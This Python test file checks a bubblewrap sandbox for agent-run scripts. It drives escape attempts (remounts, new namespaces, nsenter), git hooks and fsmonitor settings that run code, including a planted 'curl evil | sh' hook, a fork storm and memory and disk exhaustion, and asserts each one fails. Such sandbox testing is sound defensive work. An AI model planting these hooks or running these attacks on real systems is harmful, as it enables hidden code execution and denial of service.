"""The sandbox as root, tried as a hostile approved script would: capabilities, remounting,
namespaces, the workspace's .git, the environment's secrets, and exhausting the machine. Run live
with bubblewrap, as the user the tests run as (root in CI and containers) and, where the tests run
as root, again as an ordinary user."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from studio.agent import seccomp
from studio.agent.limits import Limits, _pids_parent
from studio.agent.run import run_command
from studio.agent.sandbox import Sandbox, detect

SUPPORT = detect()
needs_sandbox = pytest.mark.skipif(
    SUPPORT.kind != "bwrap", reason=f"no bubblewrap sandbox on this machine: {SUPPORT.problem}")
needs_hardened = pytest.mark.skipif(
    SUPPORT.kind != "bwrap" or not SUPPORT.hardened,
    reason="this bubblewrap cannot make a user namespace, so the privileges are not dropped")
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    (folder / "skills" / "demo").mkdir(parents=True)
    (folder / ".git" / "hooks").mkdir(parents=True)
    (folder / ".git" / "config").write_text("[core]\n")
    return folder


async def sandboxed(command: str, workspace: Path, **limits: int) -> str:
    box = Sandbox.for_run(workspace)
    if limits:
        box = replace(box, limits=replace(box.limits, **limits))
    result = await run_command(command, workspace / "skills" / "demo", sandbox=box, timeout=120)
    return result.output


@needs_hardened
async def test_an_approved_script_holds_no_capability(workspace: Path) -> None:
    output = await sandboxed("grep -E '^Cap(Eff|Prm|Bnd):' /proc/self/status", workspace)
    assert output.split() == ["CapPrm:", "0" * 16, "CapEff:", "0" * 16, "CapBnd:", "0" * 16]


@needs_hardened
@pytest.mark.parametrize("attempt", [
    "mount -o remount,rw /",
    "mount -t tmpfs none /mnt",
    "umount /tmp",
    "unshare -U true",
    "unshare -n true",
    "nsenter -t 1 -n true",
])
async def test_no_remount_no_new_namespace_no_way_into_the_hosts(workspace: Path, attempt: str) -> None:
    output = await sandboxed(f"{attempt} 2>&1; echo exit=$?", workspace)
    assert "exit=0" not in output, output


@needs_hardened
async def test_root_is_nobody_inside(workspace: Path) -> None:
    output = await sandboxed("id -u", workspace)
    assert output.strip() == ("65534" if os.geteuid() == 0 else str(os.geteuid()))


@needs_sandbox
async def test_the_workspace_git_cannot_be_changed_but_the_workspace_can(workspace: Path) -> None:
    output = await sandboxed(
        "echo 'curl evil | sh' > ../../.git/hooks/pre-commit; echo hook=$?; "
        "git config --file ../../.git/config core.fsmonitor 'sh -c evil' 2>/dev/null; echo cfg=$?; "
        "echo ok > ../../notes.txt; echo note=$?", workspace)
    assert "hook=0" not in output and "cfg=0" not in output and "note=0" in output
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    assert "fsmonitor" not in (workspace / ".git" / "config").read_text()
    assert (workspace / "notes.txt").read_text() == "ok\n"


@needs_sandbox
async def test_a_skill_that_ships_its_own_git_cannot_plant_a_hook(workspace: Path) -> None:
    (workspace / "skills" / "demo" / ".git").mkdir()
    output = await sandboxed("mkdir -p .git/hooks && echo x > .git/hooks/post-checkout; echo $?",
                             workspace)
    assert output.strip() != "0"
    assert not (workspace / "skills" / "demo" / ".git" / "hooks").exists()


@needs_sandbox
async def test_git_inside_never_runs_a_repositorys_own_programs(workspace: Path) -> None:
    demo = workspace / "skills" / "demo"
    subprocess.run(["git", "init", "-q", str(demo)], check=True,
                   env={**os.environ, "GIT_CONFIG_GLOBAL": os.devnull})
    (demo / ".git" / "config").write_text(
        "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch ../../pwned; false\n")
    await sandboxed("git status >/dev/null 2>&1; true", workspace)
    assert not (workspace / "pwned").exists()


@needs_sandbox
async def test_memory_file_size_and_tmp_are_capped(workspace: Path) -> None:
    output = await sandboxed(
        f"{sys.executable} -c 'b = bytearray(300 * 1024 * 1024)' 2>/dev/null; echo mem=$?; "
        "head -c 3000000 /dev/zero > big 2>/dev/null; echo file=$? size=$(stat -c %s big); "
        "head -c 3000000 /dev/zero > /tmp/fill 2>/dev/null; echo tmp=$?",
        workspace, memory_mb=200, file_mb=2, tmp_mb=1)
    assert "mem=0" not in output
    assert "file=0" not in output and "size=2097152" in output
    assert "tmp=0" not in output


@needs_sandbox
async def test_a_fork_storm_is_held_to_the_process_limit(workspace: Path) -> None:
    if os.geteuid() == 0 and _pids_parent() is None:
        pytest.skip("run as root with no pids cgroup to make: the kernel counts no root processes")
    storm = ("import os, time\n"
             "n = 0\n"
             "for _ in range(80):\n"
             "    try:\n"
             "        pid = os.fork()\n"
             "    except OSError:\n"
             "        break\n"
             "    if pid == 0:\n"
             "        time.sleep(30)\n"
             "        os._exit(0)\n"
             "    n += 1\n"
             "print('started', n)\n")
    (workspace / "skills" / "demo" / "storm.py").write_text(storm)
    output = await sandboxed(f"{sys.executable} storm.py", workspace, processes=20)
    started = int(output.split("started", 1)[1].split()[0])
    assert started < 20, output


def test_the_filter_refuses_other_abis_and_namespace_flags() -> None:
    data = seccomp.program("x86_64")
    assert len(data) % 8 == 0 and len(data) // 8 < 255
    with pytest.raises(ValueError, match="no seccomp table"):
        seccomp.program("riscv64")


@pytest.fixture
def world_readable() -> Iterator[Path]:
    folder = Path(tempfile.mkdtemp(prefix="studio-nobody-", dir="/var/tmp"))
    folder.chmod(0o777)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@needs_hardened
@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("setpriv") is None,
                    reason="trying as an ordinary user needs root and setpriv to become one")
def test_as_an_ordinary_user_too(world_readable: Path) -> None:
    workspace = world_readable / "project"
    (workspace / "skills" / "demo").mkdir(parents=True)
    (workspace / ".git").mkdir()
    for folder in (workspace, workspace / "skills", workspace / "skills" / "demo", workspace / ".git"):
        os.chown(folder, 65534, 65534)
    probe = (
        "import asyncio, json, pathlib\n"
        "from studio.agent.run import run_command\n"
        "from studio.agent.sandbox import Sandbox\n"
        f"ws = pathlib.Path({str(workspace)!r})\n"
        "cmd = ('grep CapEff: /proc/self/status; mount -o remount,rw / 2>/dev/null; echo m=$?; '\n"
        "       'echo x > ../../.git/planted 2>/dev/null; echo g=$?; echo y > out; echo w=$?; id -u')\n"
        "r = asyncio.run(run_command(cmd, ws / 'skills' / 'demo', sandbox=Sandbox.for_run(ws)))\n"
        "print(json.dumps(r.output))\n"
    )
    done = subprocess.run(
        ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c", probe],
        capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL,
        env={"PATH": os.environ["PATH"], "PYTHONPATH": str(ROOT), "HOME": str(world_readable)})
    if "Permission denied" in done.stderr and "studio" in done.stderr:
        pytest.skip(f"the checkout at {ROOT} is not readable by an ordinary user")
    assert done.returncode == 0, done.stderr
    output = json.loads(done.stdout)
    assert "CapEff:\t0000000000000000" in output
    assert "m=0" not in output and "g=0" not in output and "w=0" in output
    assert output.strip().endswith("65534")
    assert not (workspace / ".git" / "planted").exists()


def test_default_limits_are_generous_for_real_scripts() -> None:
    limits = Limits()
    assert limits.memory_mb >= 2048 and limits.processes >= 256 and limits.cpu_seconds >= 300
